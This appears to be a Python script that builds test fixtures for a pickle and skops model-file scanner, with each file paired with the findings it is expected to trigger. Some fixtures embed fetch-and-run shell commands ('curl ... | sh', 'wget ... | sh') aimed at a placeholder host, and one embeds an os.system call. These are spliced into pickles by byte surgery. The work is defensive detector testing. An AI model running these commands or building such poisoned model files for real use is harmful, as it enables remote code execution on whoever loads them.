#!/usr/bin/python3
"""Writes tests/data/calls: files whose loaders CALL something at load time,
each written by real Python (pickle, skops.io.dump) or by byte surgery on a
pickle Python wrote (pickletools finds the opcode to replace). Nothing here is
loaded. expected.json lists, per file, the exit code of `skopos untrusted` and
the call findings [name, finding] (trust/Calls.h) it must report, exactly.

Run: PYTHONPATH=/work/shared/skops /usr/bin/python3 scripts/make_calls.py tests/data/calls
"""
import collections, json, os, pickle, pickletools, sys, textwrap

out = sys.argv[1] if len(sys.argv) > 1 else "tests/data/calls"
os.makedirs(out, exist_ok=True)
expected = {}


def write(name, data, exit_code, calls, why):
    with open(os.path.join(out, name), "wb") as f:
        f.write(data)
    expected[name] = {"exit": exit_code, "calls": sorted(calls), "why": why}


class CallsDedent:
    """Reduces to a call of an untrusted stdlib function with a literal argument."""
    def __init__(self, text):
        self.text = text

    def __reduce__(self):
        return (textwrap.dedent, (self.text,))


class Thing:
    """An ordinary class of this script (__main__.Thing): NEWOBJ + BUILD."""
    def __init__(self):
        self.a = 1


class WithArgs(Thing):
    def __getnewargs__(self):
        return (1, "two")


class WithSetState:
    def __init__(self):
        self.v = 3

    def __getstate__(self):
        return (self.v, "tuple state")

    def __setstate__(self, state):
        self.v = state[0]


class WithKwargs(Thing):
    def __getnewargs_ex__(self):
        return ((1,), {"k": 2})


class Py2OrderedDict:
    """What Python 2 wrote for an OrderedDict: OrderedDict([[key, value], ...])."""
    def __reduce__(self):
        return (collections.OrderedDict, ([["a", 1], ["b", 2]],))


write("reduce_untrusted_function.pkl", pickle.dumps(CallsDedent("  x"), protocol=4), 1,
      [["textwrap.dedent", "untrusted"]], "REDUCE of an untrusted function with a literal argument")
write("reduce_code_string.pkl", pickle.dumps(CallsDedent("import os; os.system('id')"), protocol=4), 4,
      [["textwrap.dedent", "untrusted"], ["textwrap.dedent", "code"]],
      "REDUCE of an untrusted function given a string of Python code")
write("newobj_untrusted_class.pkl", pickle.dumps(Thing(), protocol=4), 1,
      [["__main__.Thing", "untrusted"]], "NEWOBJ (cls.__new__) and BUILD of a class of the writing script")
write("newobj_args.pkl", pickle.dumps(WithArgs(), protocol=2), 1,
      [["__main__.WithArgs", "untrusted"]], "NEWOBJ with __getnewargs__ arguments, protocol 2")
write("newobj_ex.pkl", pickle.dumps(WithKwargs(), protocol=4), 1,
      [["__main__.WithKwargs", "untrusted"]], "NEWOBJ_EX: cls.__new__(cls, *args, **kwargs) from __getnewargs_ex__")
write("build_setstate_p0.pkl", pickle.dumps(WithSetState(), protocol=0), 1,
      [["__main__.WithSetState", "untrusted"]],
      "protocol 0: copyreg._reconstructor(cls, object, None) calls nothing of the class; BUILD calls its __setstate__")
write("ordereddict_py2_shape.pkl", pickle.dumps(Py2OrderedDict(), protocol=2), 0, [],
      "OrderedDict([[key, value], ...]) as Python 2 wrote it: a shape Python writes, no finding")
write("set_p2.pkl", pickle.dumps({1, 2, 3}, protocol=2), 0, [], "set as protocol 2 writes it: REDUCE builtins.set ([...],)")

# Byte surgery: an OrderedDict Python wrote, its empty argument tuple replaced
# by a one-string tuple (the "overwritten module" attack: a clean interpreter
# fails on it, a replaced collections module runs it).
src = pickle.dumps(collections.OrderedDict(), protocol=2)
ops = list(pickletools.genops(src))
reduce_at = next(pos for op, arg, pos in ops if op.name == "REDUCE")
tuple_at = next(pos for op, arg, pos in reversed(ops) if pos < reduce_at and op.name == "EMPTY_TUPLE")
cmd = "curl http://example.invalid/x.sh | sh".encode()
payload = b"X" + len(cmd).to_bytes(4, "little") + cmd + b"\x85"  # BINUNICODE, TUPLE1
write("ordereddict_shell.pkl", src[:tuple_at] + payload + src[tuple_at + 1:], 4,
      [["collections.OrderedDict", "arguments"], ["collections.OrderedDict", "code"]],
      "collections.OrderedDict called with a shell command (byte surgery on a pickle Python wrote)")

# The same surgery on a trusted target without a code-like string: shape only.
payload = b"X" + (3).to_bytes(4, "little") + b"abc" + b"\x85"
write("ordereddict_string.pkl", src[:tuple_at] + payload + src[tuple_at + 1:], 4,
      [["collections.OrderedDict", "arguments"]], "collections.OrderedDict called with a plain string")

# A trusted estimator class given NEWOBJ arguments: scikit-learn classes have
# no __getnewargs__, so Python always writes an empty tuple there.
from sklearn.linear_model import LogisticRegression
src = pickle.dumps(LogisticRegression(), protocol=4)
ops = list(pickletools.genops(src))
newobj_at = next(pos for op, arg, pos in ops if op.name == "NEWOBJ")
tuple_at = next(pos for op, arg, pos in reversed(ops) if pos < newobj_at and op.name == "EMPTY_TUPLE")
write("estimator_newobj_args.pkl", src[:tuple_at] + b"\x8c\x01x\x85" + src[tuple_at + 1:], 4,
      [["sklearn.linear_model._logistic.LogisticRegression", "arguments"]],
      "NEWOBJ of a trusted scikit-learn class with an argument (byte surgery; Python writes ())")

# Every reconstruction target with an argument-shape check, as Python, numpy
# and scikit-learn write it at each protocol: no "arguments" finding allowed.
import functools
import numpy as np
from sklearn.tree import DecisionTreeClassifier
tree = DecisionTreeClassifier(max_depth=2, random_state=0).fit([[0, 1], [1, 0], [1, 1], [0, 0]], [0, 1, 1, 0])
targets = [collections.OrderedDict([("a", 1)]), collections.OrderedDict(), collections.defaultdict(list, {"x": [1]}),
           collections.defaultdict(None), {1, 2}, set(), frozenset({3}), bytearray(b"ab"), bytearray(), b"xy", b"",
           slice(1, 5, 2), slice(None), complex(1, 2), np.dtype("f8"), np.dtype([("a", "<i4"), ("b", "<f8")]),
           np.dtype("M8[ns]"), np.float64(2.5), np.int32(3), functools.partial(max, 1), tree]
for proto in range(6):
    write("shapes_p%d.pkl" % proto, pickle.dumps(targets, protocol=proto), 1, [],
          "reconstruction targets as Python writes them at protocol %d (partial and frozenset are untrusted types)" % proto)

try:
    import skops.io as sio
    path = os.path.join(out, "skops_objectnode.skops")
    sio.dump(Thing(), path)
    expected["skops_objectnode.skops"] = {"exit": 1, "calls": [["__main__.Thing", "untrusted"]],
                                          "why": "skops ObjectNode: cls.__new__(cls) then __setstate__ or __dict__.update"}
    # Byte surgery on a file skops wrote: the Tree's n_features becomes a
    # shell command (skops calls Tree(*args) before anything else of it).
    import io, zipfile
    from sklearn.tree import DecisionTreeClassifier
    src = sio.dumps(DecisionTreeClassifier(max_depth=1, random_state=0).fit([[0], [1]], [0, 1]))
    zin = zipfile.ZipFile(io.BytesIO(src))
    schema = json.loads(zin.read("schema.json"))
    args = schema["content"]["content"]["tree_"]["__reduce__"]["args"]["content"]
    args[0] = {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode",
               "content": json.dumps("wget -q -O- http://example.invalid/x | sh"), "is_json": True}
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = json.dumps(schema).encode() if info.filename == "schema.json" else zin.read(info.filename)
            zout.writestr(info.filename, data)
    write("skops_tree_shell.skops", buf.getvalue(), 4,
          [["sklearn.tree._tree.Tree", "arguments"], ["sklearn.tree._tree.Tree", "code"]],
          "skops TreeNode whose n_features is a shell command (schema.json edited, members copied by zipfile)")
except ImportError as e:
    sys.exit("skops is needed (PYTHONPATH=/work/shared/skops): %s" % e)

with open(os.path.join(out, "expected.json"), "w") as f:
    json.dump(expected, f, indent=1, sort_keys=True)
    f.write("\n")
print("wrote %d files to %s" % (len(expected), out))
